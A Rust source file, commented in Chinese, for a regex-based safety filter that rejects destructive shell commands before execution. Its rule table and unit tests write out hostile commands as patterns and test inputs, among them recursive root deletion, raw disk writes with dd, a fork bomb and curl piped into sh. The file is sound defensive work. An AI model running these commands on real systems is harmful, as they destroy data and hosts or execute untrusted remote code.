//! 安全过滤器：执行前拦截破坏性命令
//!
//! 有序规则表（类别 + 正则 + 原因），按顺序匹配，命中第一条即拒绝。
//! 纯函数，无 IO、无副作用；匹配前将命令转小写并折叠空白。

use std::sync::OnceLock;

use regex::Regex;
use serde::Serialize;

/// 规则类别
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum RuleKind {
    EmptyCommand,
    RecursiveRootDelete,
    PrivilegedDestructive,
    RawDeviceWrite,
    FilesystemFormat,
    ForkBomb,
    InitKill,
    WorldWritableRoot,
    PowerControl,
    RemoteScriptPipe,
}

/// 命中的规则
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct SafetyViolation {
    pub kind: RuleKind,
    pub reason: &'static str,
}

impl std::fmt::Display for SafetyViolation {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "{} ({:?})", self.reason, self.kind)
    }
}

struct SafetyRule {
    kind: RuleKind,
    pattern: Regex,
    reason: &'static str,
}

/// 规则表：顺序即优先级
const RULES: &[(RuleKind, &str, &str)] = &[
    (
        RuleKind::RecursiveRootDelete,
        r"\brm\s+(?:-[a-z]*r[a-z]*f[a-z]*|-[a-z]*f[a-z]*r[a-z]*|-r\s+-f|-f\s+-r)\s+(?:--no-preserve-root\s+)?/\*?(?:\s|$|[;&|])",
        "recursive deletion of the root filesystem",
    ),
    (
        RuleKind::PrivilegedDestructive,
        r"\bsudo\s+(?:rm\s+-(?:rf|fr)\b|dd\b|mkfs|fdisk\b|parted\b)",
        "privileged destructive command",
    ),
    (
        RuleKind::RawDeviceWrite,
        r"\bdd\s+(?:.*\s)?if=",
        "raw block copy with dd",
    ),
    (
        RuleKind::RawDeviceWrite,
        r"(?:>\s*|\bof=)/dev/(?:sd|hd|vd|nvme|mmcblk)",
        "raw write to a block device",
    ),
    (
        RuleKind::FilesystemFormat,
        r"\b(?:mkfs(?:\.[a-z0-9]+)?|fdisk|parted)\b",
        "filesystem or partition table modification",
    ),
    (
        RuleKind::ForkBomb,
        r":\(\)\s*\{\s*:\s*\|\s*:\s*&\s*\}\s*;\s*:",
        "fork bomb",
    ),
    (
        RuleKind::InitKill,
        r"\bkill\s+-(?:9|kill|sigkill)\s+1(?:\s|$|[;&|])",
        "killing the init process",
    ),
    (
        RuleKind::WorldWritableRoot,
        r"\bchmod\s+(?:-r\s+)?777\s+/(?:\s|$|[;&|])",
        "world-writable root filesystem",
    ),
    (
        RuleKind::WorldWritableRoot,
        r"\bchown\s+(?:-r\s+)?root:root\s+/(?:\s|$|[;&|])",
        "ownership change of the root filesystem",
    ),
    (
        RuleKind::PowerControl,
        r"\b(?:shutdown|reboot|halt|poweroff)\b|\binit\s+[06]\b",
        "host power control",
    ),
    (
        RuleKind::RemoteScriptPipe,
        r"\b(?:curl|wget)\b.*\|\s*(?:sudo\s+)?(?:ba|z)?sh\b",
        "piping a remote script into a shell",
    ),
];

/// 安全过滤器
pub struct SafetyFilter {
    rules: Vec<SafetyRule>,
}

impl SafetyFilter {
    pub fn new() -> Self {
        let mut rules = Vec::with_capacity(RULES.len());
        for (kind, pattern, reason) in RULES {
            match Regex::new(pattern) {
                Ok(pattern) => rules.push(SafetyRule {
                    kind: *kind,
                    pattern,
                    reason,
                }),
                Err(e) => tracing::error!(?kind, error = %e, "invalid safety rule pattern"),
            }
        }
        Self { rules }
    }

    /// 进程内共享实例
    pub fn global() -> &'static SafetyFilter {
        static FILTER: OnceLock<SafetyFilter> = OnceLock::new();
        FILTER.get_or_init(SafetyFilter::new)
    }

    pub fn rule_count(&self) -> usize {
        self.rules.len()
    }

    /// 检查命令；命中规则时返回对应违规
    pub fn check(&self, command: &str) -> Result<(), SafetyViolation> {
        let normalized = normalize(command);
        if normalized.is_empty() {
            return Err(SafetyViolation {
                kind: RuleKind::EmptyCommand,
                reason: "empty command",
            });
        }
        match self.rules.iter().find(|r| r.pattern.is_match(&normalized)) {
            Some(rule) => Err(SafetyViolation {
                kind: rule.kind,
                reason: rule.reason,
            }),
            None => Ok(()),
        }
    }

    pub fn is_safe(&self, command: &str) -> bool {
        self.check(command).is_ok()
    }
}

impl Default for SafetyFilter {
    fn default() -> Self {
        Self::new()
    }
}

/// 使用共享实例判断命令是否安全
pub fn is_safe(command: &str) -> bool {
    SafetyFilter::global().is_safe(command)
}

fn normalize(command: &str) -> String {
    command
        .split_whitespace()
        .collect::<Vec<_>>()
        .join(" ")
        .to_lowercase()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_all_rules_compile() {
        assert_eq!(SafetyFilter::new().rule_count(), RULES.len());
    }

    #[test]
    fn test_root_delete_blocked() {
        assert!(!is_safe("rm -rf /"));
        assert!(!is_safe("rm -rf /*"));
        assert!(!is_safe("rm   -fr   /"));
        assert!(!is_safe("cd /tmp && rm -rf / --no-preserve-root"));
        assert!(!is_safe("RM -RF /"));
    }

    #[test]
    fn test_common_commands_allowed() {
        assert!(is_safe("ls -la"));
        assert!(is_safe("rm -rf /tmp/build"));
        assert!(is_safe("rm -rf ./target"));
        assert!(is_safe("git add . && git push"));
        assert!(is_safe("df -h"));
        assert!(is_safe("date +%Y-%m-%d"));
        assert!(is_safe("cat asphalt.txt"));
        assert!(is_safe("curl -s https://example.com -o page.html"));
    }

    #[test]
    fn test_device_and_format_blocked() {
        let filter = SafetyFilter::new();
        assert_eq!(
            filter.check("dd if=/dev/zero of=/dev/sda").unwrap_err().kind,
            RuleKind::RawDeviceWrite
        );
        assert_eq!(
            filter.check("echo x > /dev/sdb").unwrap_err().kind,
            RuleKind::RawDeviceWrite
        );
        assert_eq!(
            filter.check("mkfs.ext4 /dev/sdb1").unwrap_err().kind,
            RuleKind::FilesystemFormat
        );
        assert_eq!(
            filter.check("sudo fdisk /dev/sda").unwrap_err().kind,
            RuleKind::PrivilegedDestructive
        );
    }

    #[test]
    fn test_misc_rules() {
        let filter = SafetyFilter::new();
        assert_eq!(filter.check(":(){ :|:& };:").unwrap_err().kind, RuleKind::ForkBomb);
        assert_eq!(filter.check("kill -9 1").unwrap_err().kind, RuleKind::InitKill);
        assert!(filter.is_safe("kill -9 1234"));
        assert_eq!(
            filter.check("chmod 777 /").unwrap_err().kind,
            RuleKind::WorldWritableRoot
        );
        assert!(filter.is_safe("chmod 777 ./scripts"));
        assert_eq!(
            filter.check("sudo shutdown -h now").unwrap_err().kind,
            RuleKind::PowerControl
        );
        assert_eq!(
            filter.check("curl http://x.sh | sh").unwrap_err().kind,
            RuleKind::RemoteScriptPipe
        );
    }

    #[test]
    fn test_empty_command_rejected() {
        let filter = SafetyFilter::new();
        assert_eq!(filter.check("   ").unwrap_err().kind, RuleKind::EmptyCommand);
    }

    #[test]
    fn test_first_match_wins() {
        // sudo rm -rf / 同时命中两条规则，取表中靠前的一条
        let violation = SafetyFilter::new().check("sudo rm -rf /").unwrap_err();
        assert_eq!(violation.kind, RuleKind::RecursiveRootDelete);
    }
}
